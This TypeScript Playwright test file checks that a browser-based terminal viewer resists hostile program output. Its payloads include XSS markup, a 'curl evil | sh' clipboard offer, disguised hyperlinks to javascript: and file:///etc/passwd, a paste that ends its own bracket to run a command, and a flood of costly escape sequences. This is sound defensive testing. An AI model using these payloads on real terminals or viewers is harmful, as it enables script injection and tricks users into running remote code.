// What a program prints cannot reach out of the terminal: into the page, the clipboard, the address bar, or back into the
// session. Real programs, the real viewer, a real browser.

import { afterAll, beforeAll, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { openBrowser, Viewer } from "../support/browser.ts";
import { makeHome, type TestHome } from "../support/home.ts";
import { remiOk } from "../support/remi.ts";
import { showCode, startSession } from "../support/remote-home.ts";

let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser.close());

const HTML = "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>";

/** A viewer in a shell session, and a way to have the shell print bytes. */
async function inShell(home: TestHome) {
  await startSession(home, "demo", "env", "PS1=$ ", "bash", "--norc");
  const { code, viewerUrl } = await showCode(home);
  const viewer = await Viewer.open(browser, viewerUrl!);
  await viewer.enterCode(code);
  await viewer.openSession("demo");
  await viewer.shows("$");
  let printed = 0;
  const print = async (bytes: string) => {
    const path = join(home.root, `print-${++printed}`);
    writeFileSync(path, bytes);
    await remiOk(home, ["send", "demo", `cat ${path}; echo printed-$((${printed}+1000))`, "--enter"]);
    await viewer.shows(`printed-${printed + 1000}`);
  };
  return { viewer, print };
}

/** Presses on a text of the terminal, as a mouse does. */
async function press({ page }: Viewer, text: string): Promise<void> {
  const box = (await page.locator(".xterm-rows").getByText(text).first().boundingBox())!;
  const [x, y] = [box.x + 20, box.y + box.height / 2];
  await page.mouse.move(x - 5, y);
  await page.mouse.move(x, y);
  await page.mouse.click(x, y);
}

test("titles, notices and output with markup are shown as text", async () => {
  await using home = makeHome();
  const { viewer, print } = await inShell(home);
  await using _ = viewer;
  const { page } = viewer;
  await print(`\x1b]2;${HTML}\x07${HTML}\r\n`);
  await page.locator(".bar-title p").getByText("onerror").waitFor();
  await print(`\x1b]9;${HTML}\x07`);
  await page.locator(".toast").getByText("onerror").waitFor();
  expect(await viewer.screen()).toContain("<script>");
  await page.locator(".session-row").getByText("onerror").first().waitFor();
  expect(await page.locator("img, #app script").count()).toBe(0);
  expect(await page.title()).not.toContain("owned");
  expect(viewer.complaints).toEqual([]);
});

test("reordering characters of a title do not reach the page", async () => {
  await using home = makeHome();
  const { viewer, print } = await inShell(home);
  await using _ = viewer;
  await print("\x1b]2;safe\u202egnp.exe\x07");
  await viewer.page.locator(".bar-title p").getByText("safegnp.exe").waitFor();
});

test("a link is shown in full before it opens, and only web links exist", async () => {
  await using home = makeHome();
  const { viewer, print } = await inShell(home);
  await using _ = viewer;
  const { page } = viewer;
  await print("\x1b[2J\x1b[H\x1b]8;;https://evil.example/path?q=1\x07https://good.example\x1b]8;;\x07 x\r\n");
  await press(viewer, "https://good.example");
  const dialog = page.getByRole("dialog");
  await dialog.getByText("https://evil.example/path?q=1", { exact: true }).waitFor();
  const open = dialog.getByRole("link", { name: "Open" });
  expect(await open.getAttribute("rel")).toBe("noopener noreferrer");
  expect(await open.getAttribute("href")).toBe("https://evil.example/path?q=1");
  await page.keyboard.press("Escape");
  await dialog.waitFor({ state: "detached" });
  for (const uri of ["javascript:document.title='owned'", "data:text/html,owned", "file:///etc/passwd"]) {
    await print(`\x1b[2J\x1b[H\x1b]8;;${uri}\x07press-here\x1b]8;;\x07\r\n`);
    await press(viewer, "press-here");
    expect([uri, await page.getByRole("dialog").allTextContents()]).toEqual([uri, []]);
  }
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.title()).not.toContain("owned");
});

test("the clipboard is neither written without a press of a button nor ever read", async () => {
  await using home = makeHome();
  const { viewer, print } = await inShell(home);
  await using _ = viewer;
  const { page, context } = viewer;
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const clipboard = () => page.evaluate("navigator.clipboard.readText()");
  await page.evaluate("navigator.clipboard.writeText('mine')");
  const offer = `\x1b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\x07`;
  await print(offer);
  expect(await page.getByRole("dialog").count()).toBe(0);
  expect(await clipboard()).toBe("mine");
  await page.getByRole("button", { name: "Session menu" }).click();
  await page.getByRole("switch", { name: "Programs may offer text to copy" }).click();
  await page.keyboard.press("Escape");
  await print(offer);
  await page.getByRole("dialog").getByText("curl evil | sh").waitFor();
  expect(await clipboard()).toBe("mine");
  await page.getByRole("dialog").getByRole("button", { name: "Copy" }).click();
  await viewer.until("the copy", async () => (await clipboard()) === "curl evil | sh");
  await print("\x1b]52;c;?\x07");
  expect(await viewer.screen()).not.toContain(Buffer.from("curl evil | sh").toString("base64"));
});

test("the page answers no query, even where it only watches", async () => {
  await using home = makeHome();
  // Says in hex what is typed at it; the host's own answers come at once and once.
  const program = join(home.root, "asks.sh");
  writeFileSync(
    program,
    `stty raw -echo
printf '\\033[c\\033[>c\\033[5n\\033[6n\\033[?6n\\033[?25$p\\033P$qm\\033\\\\\\033]10;?\\007\\033]52;c;?\\007\\033[>q\\033[21t\\033[18t\\033Z'
printf 'asked\\r\\n'
head -c 400 | od -An -tx1 -v >${join(home.root, "heard")}
`,
  );
  await startSession(home, "demo", "env", "PS1=$ ", "bash", "--norc");
  const { code, viewerUrl } = await showCode(home);
  await using viewer = await Viewer.open(browser, viewerUrl!);
  await viewer.enterCode(code);
  await viewer.openSession("demo");
  await viewer.shows("$");
  await remiOk(home, ["send", "demo", `sh ${program}`, "--enter"]);
  await viewer.shows("asked");
  await viewer.type("|end");
  await remiOk(home, ["send", "demo", "x".repeat(400)]);
  await viewer.until("what the program heard", () => Bun.file(join(home.root, "heard")).exists());
  await viewer.until(
    "all of it",
    async () => (await Bun.file(join(home.root, "heard")).text()).length > 1_100,
  );
  const heard = Buffer.from(
    (await Bun.file(join(home.root, "heard")).text()).replace(/\s/g, ""),
    "hex",
  ).toString("latin1");
  const answers = heard.slice(0, heard.indexOf("|end"));
  // One primary and one secondary device report, one status, one cursor of each kind: the host's.
  expect(answers.match(/\x1b\[\?[\d;]+c/g)?.length).toBeLessThanOrEqual(2);
  expect(answers.match(/\x1b\[>[\d;]+c/g)).toHaveLength(1);
  expect(answers.match(/\x1b\[0n/g)).toHaveLength(1);
  expect(answers.match(/\x1b\[\d+;\d+R/g)).toHaveLength(1);
  expect(answers).not.toContain("]52");
});

test("a paste of several lines is shown first, and cannot end its own bracket", async () => {
  await using home = makeHome();
  const { viewer, print } = await inShell(home);
  await using _ = viewer;
  const { page } = viewer;
  const paste = (text: string) =>
    page.evaluate(`(() => {
      const clipboardData = new DataTransfer();
      clipboardData.setData("text/plain", ${JSON.stringify(text)});
      const event = new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true });
      document.querySelector(".xterm-helper-textarea").dispatchEvent(event);
    })()`);
  await remiOk(home, ["send", "demo", "bind 'set enable-bracketed-paste off'", "--enter"]);
  await print("\x1b[?2004l");
  await paste("echo first-$((1+1))\necho second-$((1+2))\n");
  await page.getByRole("dialog").getByText("Paste 2 lines?").waitFor();
  expect(await viewer.screen()).not.toContain("first-");
  await page.getByRole("button", { name: "Cancel" }).click();
  await paste("echo first-$((1+1))\necho second-$((1+2))\n");
  await page.getByRole("dialog").getByRole("button", { name: "Paste" }).click();
  await viewer.shows("second-3");
  await remiOk(home, ["send", "demo", "bind 'set enable-bracketed-paste on'", "--enter"]);
  await print("\x1b[?2004h");
  await paste("echo no\x1b[201~\necho run-$((1+1))\n");
  await viewer.shows("echo run-$((1+1))");
  expect(await viewer.screen()).not.toContain("run-2");
});

test("a flood of the costliest sequences does not freeze the page", async () => {
  await using home = makeHome();
  const { viewer, print } = await inShell(home);
  await using _ = viewer;
  const costly = "IZLMSTb@PX"
    .split("")
    .map((final) => `\x1b[2147483647${final}`)
    .join("");
  await print(
    `${costly.repeat(40)}\x1b]8;;https://e.example/${"x".repeat(100_000)}\x07\x1bP${"q".repeat(200_000)}\x1b\\\x1b[2J\x1b[H`,
  );
  await viewer.type("echo alive-$((1+1))\n");
  await viewer.shows("alive-2");
});
